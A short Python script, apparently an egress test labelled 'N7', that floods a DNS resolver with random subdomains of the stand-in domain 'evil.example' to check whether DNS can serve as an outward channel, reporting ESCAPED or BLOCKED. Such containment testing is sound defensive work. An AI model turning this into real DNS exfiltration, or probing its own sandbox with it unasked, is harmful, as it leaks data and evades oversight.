# N7: thousands of random names, as a channel outwards. Arguments: how many, server (`cell` or address:port).
import random, socket, string, struct, sys
count, where = int(sys.argv[1]), sys.argv[2]
if where == "cell":
    server = next((l.split()[1], 53) for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
else:
    host, _, port = where.rpartition(":")
    server = (host, int(port))
s = socket.socket(socket.AF_INET6 if ":" in server[0] else socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.connect(server)
answered = refused = 0
for number in range(count):
    label = "".join(random.choices(string.ascii_lowercase, k=20)).encode()
    s.send(struct.pack(">HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + b"\x14" + label + b"\x04evil\x07example\0" + b"\0\1\0\1")
    try:
        answer = s.recv(512)
    except socket.timeout:
        print(f"COULD NOT: no answer to question {number}")
        raise SystemExit(2)
    except OSError:
        refused += 1
        continue
    if answer[3] & 15 == 0:
        answered += 1
    else:
        refused += 1
print(f"ESCAPED: {answered} answers" if answered else f"BLOCKED: {refused} of {count} names refused")
raise SystemExit(0 if answered else 1)
